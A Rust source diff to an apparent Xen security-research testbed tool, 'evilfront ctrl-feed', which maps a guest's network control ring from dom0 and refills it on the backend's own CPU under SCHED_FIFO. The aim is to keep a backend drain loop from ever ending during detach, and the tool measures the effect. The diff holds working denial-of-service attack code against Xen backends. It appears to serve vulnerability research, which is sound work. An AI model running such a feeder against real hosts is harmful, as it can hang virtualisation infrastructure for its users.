@@ -1,26 +1,37 @@
 //! `evilfront ctrl-feed`: run in dom0 (not in a guest), it keeps a guest's control ring full
-//! for the ctrl-endless attacks. A feeder inside the 1-vCPU guest pauses whenever Xen or the
-//! guest's kernel runs something else, for longer than a backend needs to drain a ring, so
-//! any backend's loop ends at such a pause; dom0 has 2 vCPUs and this feeder can be pinned to
-//! the one the backend's work is not on (and run SCHED_FIFO: testbed/scenarios/hostile.sh).
+//! for the ctrl-endless attacks, so that a backend loop that only ends when the ring is empty
+//! never ends.
+//!
+//! Why from dom0, and why on the backend's own CPU: a backend drains a ring of 128 requests
+//! in well under a millisecond, so any pause of the feeder longer than that ends such a loop.
+//! A feeder in the 1-vCPU guest pauses whenever the guest or Xen runs something else; a
+//! feeder on another dom0 vCPU pauses whenever the host (2 cores shared by QEMU's vCPU threads
+//! and other work) or Xen deschedules that vCPU, which under TCG takes milliseconds. Run on
+//! the vCPU where the backend's work runs, as SCHED_FIFO (testbed/scenarios/hostile.sh does
+//! both), the feeder wakes every `--period-us`, preempts the backend's work (without ending
+//! it: a preempted loop is not an ended one), refills the ring and sleeps again; when the host
+//! or Xen deschedules that vCPU, the backend stops with it. So between two refills the backend
+//! gets at most one period of CPU time, less than it needs to empty the ring, while it still
+//! gets nearly all of its CPU.
 //!
 //! It maps the guest's ring page through /dev/xen/gntdev (`ctrl-ring-ref` is granted to dom0,
-//! writable, because dom0 is the backend) and republishes `req_prod = rsp_prod + ring size`
-//! whenever the backend's `rsp_prod` moves: never more than a ring ahead of the backend's
-//! consumer, so no "impossible requests" check trips. The answered slots get fresh requests
-//! first. It never notifies: a feeder in dom0 cannot signal the guest's end of the channel;
-//! the guest kicks when `req_event` asks for it, and a backend loop that re-reads `req_prod`
-//! before going idle keeps going on its own.
+//! writable, because dom0 is the backend) and publishes `req_prod = rsp_prod + ring size` at
+//! each wakeup: never more than a ring ahead of the backend's consumer, so no "impossible
+//! requests" check trips. The answered slots get fresh requests first. It never notifies: a
+//! feeder in dom0 cannot signal the guest's end of the channel; the guest kicks when
+//! `req_event` asks for it, and a backend loop that re-reads `req_prod` before going idle
+//! keeps going on its own.
 //!
 //! usage: evilfront ctrl-feed --domid D --gref G [--mapping-gref G2] [--seconds S]
-//!                            [--stop-file F] [--mark-file F] [--pause-every-us N --pause-us M]
+//!                            [--stop-file F] [--mark-file F] [--period-us P]
 //! `--mapping-gref`: every request is a SET_HASH_MAPPING of 128 entries from that page (a
 //! grant copy each) instead of GET_HASH_FLAGS. Ends after `--seconds` (default 150) or when
 //! the stop file exists. When the mark file appears (dom0 creates it as the detach starts)
 //! the feeder notes the count answered so far and from then on how long the backend keeps
-//! answering. `--pause-us`: sleep that long every `--pause-every-us` of feeding, so a
-//! SCHED_FIFO feeder leaves its CPU's other tasks a little time.
-//! Prints `FEED t=.. answered=..` once a second and one `FEED-RESULT key=value ...` line.
+//! answering. `--period-us` (default 100): the sleep between refills (0: spin).
+//! Prints `FEED t=.. answered=..` once a second and one `FEED-RESULT key=value ...` line;
+//! `drained` counts the wakeups that found the whole ring answered (the backend's loop may
+//! have ended there), `max_batch` the most requests answered between two wakeups.
 
 use crate::attacks::Report;
 use crate::front::ctrl_slot;
@@ -41,12 +52,9 @@ struct FeedArgs {
     seconds: u64,
     stop_file: String,
     mark_file: String,
-    pause_every_us: u64,
-    pause_us: u64,
+    period_us: u64,
 }
 
-/// The longest loop iteration that still counts as feeding without a pause.
-const GAP_US: u128 = 100;
 /// Entries of the hash mapping each SET_HASH_MAPPING request sets (the backend's maximum).
 const MAPPING_ENTRIES: u32 = 128;
 
@@ -58,8 +66,7 @@ fn parse(args: &[String]) -> Result<FeedArgs, String> {
         seconds: 150,
         stop_file: "/tmp/ctrl-feed.stop".into(),
         mark_file: "/tmp/ctrl-feed.mark".into(),
-        pause_every_us: 0,
-        pause_us: 0,
+        period_us: 100,
     };
     let (mut domid, mut gref) = (None, None);
     let mut it = args.iter();
@@ -73,8 +80,7 @@ fn parse(args: &[String]) -> Result<FeedArgs, String> {
             "--seconds" => a.seconds = num(v)?,
             "--stop-file" => a.stop_file = v.clone(),
             "--mark-file" => a.mark_file = v.clone(),
-            "--pause-every-us" => a.pause_every_us = num(v)?,
-            "--pause-us" => a.pause_us = num(v)?,
+            "--period-us" => a.period_us = num(v)?,
             _ => return Err(format!("unknown option {k}")),
         }
     }
@@ -124,29 +130,34 @@ fn feed(page: &GrantedPage, a: &FeedArgs, r: &mut Report) {
     }
     let _ = std::fs::remove_file(&a.stop_file);
     let _ = std::fs::remove_file(&a.mark_file);
-    println!("FEED start req_prod={req_prod} rsp_prod={last_rsp}");
+    println!("FEED start req_prod={req_prod} rsp_prod={last_rsp} period_us={}", a.period_us);
     let t0 = Instant::now();
-    let (mut answered, mut caught_up, mut gaps, mut max_gap_us, mut pauses) = (0u64, 0u64, 0u64, 0u128, 0u64);
+    let mut answered = 0u64;
+    // Wakeups that found every published request answered: the backend drained the ring
+    // between two of ours, and a loop that stops when the ring is empty may have ended.
+    let (mut drained, mut drained_after_mark) = (0u64, 0u64);
+    // The most requests answered between two wakeups, and the longest time between them.
+    let (mut max_batch, mut max_batch_1s, mut max_interval_us) = (0u32, 0u32, 0u128);
     // (time the mark appeared, answered then), and the last time rsp_prod moved.
     let mut mark: Option<(Instant, u64)> = None;
     let mut last_progress = t0;
-    let (mut prev, mut last_check, mut last_report, mut last_pause) = (t0, t0, t0, t0);
+    let (mut prev, mut last_check, mut last_report) = (t0, t0, t0);
     loop {
         let now = Instant::now();
-        let gap = now.duration_since(prev).as_micros();
+        max_interval_us = max_interval_us.max(now.duration_since(prev).as_micros());
         prev = now;
-        max_gap_us = max_gap_us.max(gap);
-        if gap > GAP_US {
-            gaps += 1;
-        }
         let rsp = rsp_prod_word.load(Ordering::SeqCst);
-        if rsp != last_rsp {
-            answered += u64::from(rsp.wrapping_sub(last_rsp));
+        let batch = rsp.wrapping_sub(last_rsp);
+        if batch != 0 {
+            answered += u64::from(batch);
             last_rsp = rsp;
             last_progress = now;
-        }
-        if rsp == req_prod {
-            caught_up += 1;
+            max_batch = max_batch.max(batch);
+            max_batch_1s = max_batch_1s.max(batch);
+            if rsp == req_prod {
+                drained += 1;
+                drained_after_mark += u64::from(mark.is_some());
+            }
         }
         let target = rsp.wrapping_add(XEN_NETIF_CTRL_RING_SIZE);
         let ahead = target.wrapping_sub(req_prod);
@@ -167,34 +178,35 @@ fn feed(page: &GrantedPage, a: &FeedArgs, r: &mut Report) {
             }
             if mark.is_none() && Path::new(&a.mark_file).exists() {
                 mark = Some((now, answered));
-                println!("FEED t={:.1} mark answered={answered}", now.duration_since(t0).as_secs_f64());
+                println!(
+                    "FEED t={:.1} mark answered={answered} drained={drained}",
+                    now.duration_since(t0).as_secs_f64()
+                );
             }
         }
         if now.duration_since(last_report) >= Duration::from_secs(1) {
             last_report = now;
             println!(
-                "FEED t={:.1} answered={answered} caught_up={caught_up} gaps={gaps}",
+                "FEED t={:.1} answered={answered} drained={drained} max_batch_1s={max_batch_1s}",
                 now.duration_since(t0).as_secs_f64()
             );
+            max_batch_1s = 0;
         }
-        if a.pause_us > 0 && now.duration_since(last_pause) >= Duration::from_micros(a.pause_every_us) {
-            sleep(Duration::from_micros(a.pause_us));
-            pauses += 1;
-            last_pause = Instant::now();
-            prev = last_pause;
+        if a.period_us > 0 {
+            sleep(Duration::from_micros(a.period_us));
         }
     }
     let end = Instant::now();
     r.set("answered", answered);
-    r.set("caught_up", caught_up);
-    r.set("gaps_over_100us", gaps);
-    r.set("max_gap_us", max_gap_us);
-    r.set("pauses", pauses);
+    r.set("drained", drained);
+    r.set("max_batch", max_batch);
+    r.set("max_interval_us", max_interval_us);
     r.set("seconds", format!("{:.1}", end.duration_since(t0).as_secs_f64()));
     r.set("last_progress_s", format!("{:.1}", last_progress.duration_since(t0).as_secs_f64()));
     match mark {
         Some((at, n)) => {
             r.set("answered_after_mark", answered - n);
+            r.set("drained_after_mark", drained_after_mark);
             // How long the backend kept answering once the detach had started.
             let busy = last_progress.checked_duration_since(at).unwrap_or_default();
             r.set("answering_after_mark_s", format!("{:.1}", busy.as_secs_f64()));
